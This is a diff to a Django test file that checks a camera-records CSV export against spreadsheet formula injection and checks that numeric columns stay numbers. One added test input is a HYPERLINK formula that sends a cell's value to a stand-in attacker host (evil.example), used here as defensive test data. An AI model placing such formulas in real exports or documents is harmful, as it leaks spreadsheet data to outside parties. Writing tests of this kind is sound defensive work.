@@ -24,6 +24,11 @@ pytestmark = pytest.mark.django_db
         "@SUM(1+1)",
         "\t=1+1",
         "\r=1+1",
+        # Spreadsheets skip whitespace before a formula: these run too.
+        "  =1+1",
+        ' =HYPERLINK("https://evil.example/?"&A1,"Knez Mihailova 1")',
+        "\n=1+1",
+        "@SUM(1)",
     ],
 )
 def test_an_address_that_looks_like_a_formula_stays_text(client, address):
@@ -44,3 +49,18 @@ def test_an_ordinary_address_is_left_alone(client):
     rows = list(csv.DictReader(io.StringIO(client.get("/api/cameras.csv").content.decode())))
 
     assert rows[0]["address"] == "Bulevar kralja Aleksandra 73/II"
+
+
+def test_numbers_stay_numbers(client):
+    # West of Greenwich: a negative longitude in a number column is a number, not a formula.
+    camera = CameraFactory(latitude=51.5, longitude=-0.5, direction=0, address="-")
+
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/cameras.csv").content.decode())))
+
+    assert (rows[0]["id"], rows[0]["latitude"], rows[0]["longitude"]) == (
+        str(camera.pk),
+        "51.5",
+        "-0.5",
+    )
+    assert rows[0]["direction"] == "0"
+    assert rows[0]["address"] == "'-"  # text, though
